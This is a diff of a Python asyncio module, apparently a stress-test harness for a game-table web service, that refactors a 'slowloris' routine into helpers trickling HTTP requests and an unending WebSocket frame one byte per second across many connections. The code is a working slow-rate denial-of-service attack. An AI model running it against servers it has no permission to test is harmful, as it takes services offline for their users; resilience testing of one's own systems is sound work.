@@ -166,39 +166,41 @@ async def play_for_another_seat(target: Target) -> int:
 
 async def slowloris(target: Target) -> int:
     """Send a byte a second: of a request, of a handshake, of a frame, and of a frame that never ends."""
-
-    async def one(request: bytes) -> int:
-        sent, (_, writer) = 0, await connect(target)
-        with suppress(OSError):
-            for at in range(len(request)):
-                if not target.is_active:
-                    break
-                writer.write(request[at : at + 1])
-                await writer.drain()
-                sent += 1
-                await asyncio.sleep(1)
-        writer.transport.abort()
-        return sent
-
-    async def framed() -> int:
-        websocket, sent = await sit(target), 0
-        with suppress(OSError):
-            websocket.writer.write(b"\x81\xfe\x3f\x00" + bytes(4))
-            while target.is_active:
-                websocket.writer.write(b"x")
-                await websocket.writer.drain()
-                sent += 1
-                await asyncio.sleep(1)
-        websocket.abort()
-        return sent
-
     requests = [
         b"GET /api/games HTTP/1.1\r\nHost: x\r\n\r\n",
         b"POST /api/tables HTTP/1.1\r\nHost: x\r\nContent-Length: 60000\r\n\r\n" + b" " * 1000,
         f"GET /ws/tables/{target.table} HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\n".encode(),
     ]
-    slow = [one(request) for request in requests for _ in range(10)] + [framed() for _ in range(10)]
+    slow = [_trickle_request(target, request) for request in requests for _ in range(10)]
+    slow += [_trickle_frame(target) for _ in range(10)]
     return sum(sent for sent in await asyncio.gather(*slow, return_exceptions=True) if isinstance(sent, int))
+
+
+async def _trickle_request(target: Target, request: bytes) -> int:
+    sent, (_, writer) = 0, await connect(target)
+    with suppress(OSError):
+        for at in range(len(request)):
+            if not target.is_active:
+                break
+            writer.write(request[at : at + 1])
+            await writer.drain()
+            sent += 1
+            await asyncio.sleep(1)
+    writer.transport.abort()
+    return sent
+
+
+async def _trickle_frame(target: Target) -> int:
+    websocket, sent = await sit(target), 0
+    with suppress(OSError):
+        websocket.writer.write(b"\x81\xfe\x3f\x00" + bytes(4))
+        while target.is_active:
+            websocket.writer.write(b"x")
+            await websocket.writer.drain()
+            sent += 1
+            await asyncio.sleep(1)
+    websocket.abort()
+    return sent
 
 
 async def flood_messages(target: Target) -> int:
